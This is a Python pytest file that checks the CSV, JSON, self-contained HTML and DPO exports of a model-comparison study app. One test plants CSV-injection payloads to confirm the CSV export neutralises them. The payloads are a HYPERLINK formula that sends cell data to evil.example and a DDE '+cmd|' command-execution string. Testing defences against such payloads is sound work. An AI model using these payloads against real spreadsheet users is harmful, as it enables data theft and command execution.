"""Exports as people download and reopen them: CSV in a spreadsheet, JSON, offline HTML, DPO."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import zipfile
from collections import Counter

import pandas as pd
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import reverse

from sbs.analysis import exports, services
from sbs.analysis.models import ReportCache
from sbs.analysis.sections import SECTIONS
from sbs.catalog.models import ModelEntry
from sbs.questions.models import Question
from sbs.studies.models import Answer, Assignment
from sbs.voting.models import Vote
from sbs.voting.services import vote_record
from tests.analysis.test_report_fixtures import fast_users, make_voted_study  # noqa: F401
from tests.htmlcheck import script_problems
from workers.tasks import compute_report

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fast_users")]

MANIFEST_KEYS = {"version", "created", "question_set", "answers_sha256", "analysis", "votes"}


@pytest.fixture
def voted():
    return make_voted_study()


@pytest.fixture
def owner_client(client, voted):
    client.force_login(voted.owner)
    return client


@pytest.fixture
def computed(voted):
    """The study with its full report computed by the job, as after a page view."""
    row = services.report_request(study=voted.study)
    assert compute_report.apply(args=[row.pk]).get() == "done"
    return voted


def _answers_sha256(study) -> str:
    """The answers hash, recomputed here from its definition in the manifest."""
    rows = sorted(
        (a.question.external_id, a.run.model.name, a.text)
        for a in Answer.objects.filter(run__study=study).select_related("question", "run__model")
    )
    text = "".join(json.dumps(list(r), ensure_ascii=False) + "\n" for r in rows)
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def _check_manifest(manifest, voted) -> None:
    assert set(manifest) >= MANIFEST_KEYS
    assert manifest["version"]
    assert manifest["question_set"]["sha256"] == voted.study.question_set.sha256
    assert manifest["answers_sha256"] == _answers_sha256(voted.study)
    assert manifest["analysis"] == {**manifest["analysis"], "seed": 0, "bootstrap_rounds": 1000}
    assert manifest["votes"]["count"] == len(voted.planned)


def _zip(response) -> zipfile.ZipFile:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    return zipfile.ZipFile(io.BytesIO(response.content))


def test_csv_has_bom_cyrillic_and_the_winner_each_annotator_meant(owner_client, voted):
    response = owner_client.get(reverse("studies:export", args=[voted.study.pk, "csv"]))
    archive = _zip(response)
    assert sorted(archive.namelist()) == ["manifest.json", f"study-{voted.study.pk}-votes.csv"]
    raw = archive.read(f"study-{voted.study.pk}-votes.csv")
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == len(voted.planned)
    assert list(rows[0])[:10] == [
        "question_id", "category", "annotator", "left_model", "right_model",
        "choice", "winner_model", "seconds", "comment", "created",
    ]  # fmt: skip
    assert "анна" in {r["annotator"] for r in rows}
    assert all(r["comment"].startswith("комментарий") for r in rows)
    # By hand: the planned preference of this annotator on this question and showing.
    planned = Counter(
        (q, name, {"adapted": voted.adapted, "original": voted.original}.get(o, ""), rep)
        for (q, name, o, rep) in voted.planned.values()
    )
    seen = Counter(
        (r["question_id"], r["annotator"], r["winner_model"], r["repeat"] == "1") for r in rows
    )
    assert seen == planned
    for r in rows:  # and the winner is consistent with the side shown and the button pressed
        expected = {"left": r["left_model"], "right": r["right_model"]}.get(r["choice"], "")
        assert r["winner_model"] == expected
    _check_manifest(json.loads(archive.read("manifest.json")), voted)


def test_json_before_the_job_redirects_then_has_every_table_and_the_manifest(owner_client, voted):
    url = reverse("studies:export", args=[voted.study.pk, "json"])
    early = owner_client.get(url)
    assert early.status_code == 302 and early["Location"].endswith(
        reverse("studies:results", args=[voted.study.pk])
    )
    row = ReportCache.objects.get(study=voted.study)
    compute_report.apply(args=[row.pk])
    response = owner_client.get(url)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    data = json.loads(response.content)
    assert set(SECTIONS) <= set(data["report"])
    report = data["report"]
    counts = Counter(o for o in voted.first_outcomes())
    assert report["verdict"]["wins"] == counts["adapted"]
    assert report["verdict"]["both_bad"] == counts["both_bad"]
    assert report["verdict"]["bootstrap_ties_half"]["rounds"] == 1000
    assert {c["category"] for c in report["categories"]["categories"]} == {
        "general_knowledge", "reasoning_over_text", "text_understanding", "instructions_creative"
    }  # fmt: skip
    assert len(report["annotators"]) == 3
    assert report["ranking"]["ratings"][0]["elo_low"] is not None
    assert report["speed"]["ratio"]["new_tokens"] == pytest.approx(8 / 5)
    _check_manifest(data["manifest"], voted)


def test_html_report_is_self_contained_and_embeds_the_plots(owner_client, computed):
    response = owner_client.get(reverse("studies:export", args=[computed.study.pk, "html"]))
    assert response.status_code == 200
    html = response.content.decode("utf-8")
    assert "http://" not in html and "https://" not in html
    assert script_problems(html) == [] and "<script" not in html
    assert not re.search(r'\b(?:src|href)="(?!data:image/svg\+xml;base64,)', html)
    images = re.findall(r'src="data:image/svg\+xml;base64,([^"]+)"', html)
    assert len(images) == 4
    assert all(b"<svg" in base64.b64decode(i) for i in images)
    assert computed.study.question_set.sha256 in html and "<style>" in html


def test_dpo_jsonl_loads_with_pandas_and_prefers_the_winner(tmp_path, computed):
    out = tmp_path / "prefs.jsonl"
    call_command("export_report", str(computed.study.pk), "--format", "dpo", "--out", str(out))
    frame = pd.read_json(out, lines=True)
    decisive = [
        (q, name, o)
        for (q, name, o, rep) in computed.planned.values()
        if not rep and o in ("adapted", "original")
    ]
    assert len(frame) == len(decisive)  # ties, both bad and repeats left out
    assert {"prompt", "chosen", "rejected", "chosen_model", "question_id"} <= set(frame.columns)
    texts = {
        (a.question.external_id, a.run.model.name): a.text
        for a in Answer.objects.filter(run__study=computed.study).select_related(
            "question", "run__model"
        )
    }
    names = {"adapted": computed.adapted, "original": computed.original}
    expected = Counter((q, name, names[o]) for q, name, o in decisive)
    seen = zip(frame["question_id"], frame["annotator"], frame["chosen_model"], strict=True)
    assert Counter(seen) == expected
    for rec in frame.itertuples():
        loser = computed.original if rec.chosen_model == computed.adapted else computed.adapted
        assert rec.chosen == texts[(rec.question_id, rec.chosen_model)]
        assert rec.rejected == texts[(rec.question_id, loser)]
        assert rec.prompt.startswith("Вопрос номер")
    manifest = json.loads((tmp_path / "prefs.jsonl.manifest.json").read_text())
    assert manifest["policy"]["ties"] == "excluded" and manifest["policy"]["both_bad"] == "excluded"
    _check_manifest(manifest, computed)


def test_dpo_majority_gives_one_record_per_question_with_a_strict_majority(owner_client, voted):
    response = owner_client.get(
        reverse("studies:export", args=[voted.study.pk, "dpo"]), {"aggregate": "majority"}
    )
    archive = _zip(response)
    name = next(n for n in archive.namelist() if n.endswith(".jsonl"))
    frame = pd.read_json(io.BytesIO(archive.read(name)), lines=True)
    votes: dict[str, Counter] = {}
    for q, _name, o, rep in voted.planned.values():
        if not rep:
            votes.setdefault(q, Counter())[o] += 1
    expected = {
        q: (voted.adapted if c["adapted"] > c["original"] else voted.original)
        for q, c in votes.items()
        if c["adapted"] != c["original"]
    }
    assert dict(zip(frame["question_id"], frame["chosen_model"], strict=True)) == expected
    assert json.loads(archive.read("manifest.json"))["policy"]["aggregate"] == "majority"


def test_export_command_writes_each_format(tmp_path, computed):
    study = computed.study
    for fmt in ("csv", "json", "html"):
        out = tmp_path / f"report.{fmt}"
        call_command("export_report", str(study.pk), "--format", fmt, "--out", str(out))
        assert out.stat().st_size > 0
    assert (tmp_path / "report.csv.manifest.json").exists()
    assert not (tmp_path / "report.json.manifest.json").exists()  # embedded instead
    assert (tmp_path / "report.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    data = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
    assert data["manifest"]["format"] == "json" and set(SECTIONS) <= set(data["report"])
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert html.count("data:image/svg+xml;base64,") == 4 and "https://" not in html


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_from_people_cannot_run_as_spreadsheet_formulas(owner_client, voted):
    """Hostile comments, categories, names, question ids and model names come out inert."""
    hostile = {
        "category": '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "question": "@SUM(1+1)",
        "annotator": "-2+3",
        "model": "+cmd|' /C calc'!A0",
        "comment_tab": "\t=1+1",
        "comment_cr": "\r=2+2",
        "comment_at": "@attacker",
    }
    study = voted.study
    first_question = study.question_set.questions.order_by("pk").first()
    Question.objects.filter(pk=first_question.pk).update(
        category=hostile["category"], external_id=hostile["question"]
    )
    get_user_model().objects.filter(pk=voted.annotators[1].pk).update(username=hostile["annotator"])
    ModelEntry.objects.filter(pk=study.model_a.pk).update(name=hostile["model"])
    votes = list(Vote.objects.filter(assignment__pair__study=study).order_by("pk"))
    for vote, key in zip(votes, ("comment_tab", "comment_cr", "comment_at"), strict=False):
        Vote.objects.filter(pk=vote.pk).update(comment=hostile[key])

    response = owner_client.get(reverse("studies:export", args=[study.pk, "csv"]))
    raw = _zip(response).read(f"study-{study.pk}-votes.csv")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert len(body) == len(voted.planned)
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for value in hostile.values():  # each one is there, neutralised by a leading quote
        assert "'" + value in cells, value
    by_column = {name: [row[k] for row in body] for k, name in enumerate(header)}
    assert all(float(s) > 0 for s in by_column["seconds"])  # numbers stay numbers
    assert "'" + hostile["model"] in by_column["left_model"] + by_column["right_model"]
    assert any(c.startswith("комментарий") for c in by_column["comment"])  # untouched


def test_csv_cell_quotes_only_strings_that_start_a_formula():
    assert exports.csv_cell(-0.5) == "-0.5" and exports.csv_cell(-3) == "-3"
    assert exports.csv_cell("-0.5") == "'-0.5"
    assert exports.csv_cell("a=b") == "a=b" and exports.csv_cell("") == ""
    assert exports.csv_cell(None) == "" and exports.csv_cell(True) == "1"
    data = exports.csv_bytes(["x", "y"], [[-0.5, "=1"], [1.25, "ok"]])
    assert data.decode("utf-8-sig") == "x,y\r\n-0.5,'=1\r\n1.25,ok\r\n"


@pytest.fixture
def lefty():
    """10 questions, no repeats; the second annotator gives every vote to the left answer."""
    voted = make_voted_study(n=10, repeat_share=0.0)
    user = voted.annotators[1]
    for a in Assignment.objects.filter(pair__study=voted.study, annotator=user):
        vote_record(
            annotator=user, assignment_id=a.pk, choice="left", seconds_on_page=4.0, change=True
        )
    return voted


def test_an_annotator_who_always_clicks_left_gets_a_report_and_an_html_export(tmp_path, lefty):
    # 10 of 10 left: the Wilson upper bound was 0.9999999999999999, below the point 1.0,
    # and the position-bias plot refused it, in the job and in `export_report --format html`.
    user = lefty.annotators[1]
    assert Assignment.objects.filter(pair__study=lefty.study, annotator=user).count() == 10
    out = tmp_path / "report.html"
    call_command("export_report", str(lefty.study.pk), "--format", "html", "--out", str(out))
    html = out.read_text(encoding="utf-8")
    assert html.count("data:image/svg+xml;base64,") == 4
    row = services.report_request(study=lefty.study)
    assert compute_report.apply(args=[row.pk]).get() == "done"
    row.refresh_from_db()
    stats = next(a for a in row.report["annotators"] if a["annotator"] == user.username)
    assert (stats["left_rate"], stats["left_rate_high"]) == (1.0, 1.0)
    assert set(row.plots["en"]) == {"categories", "ranking", "position_bias", "speed_vs_win_rate"}
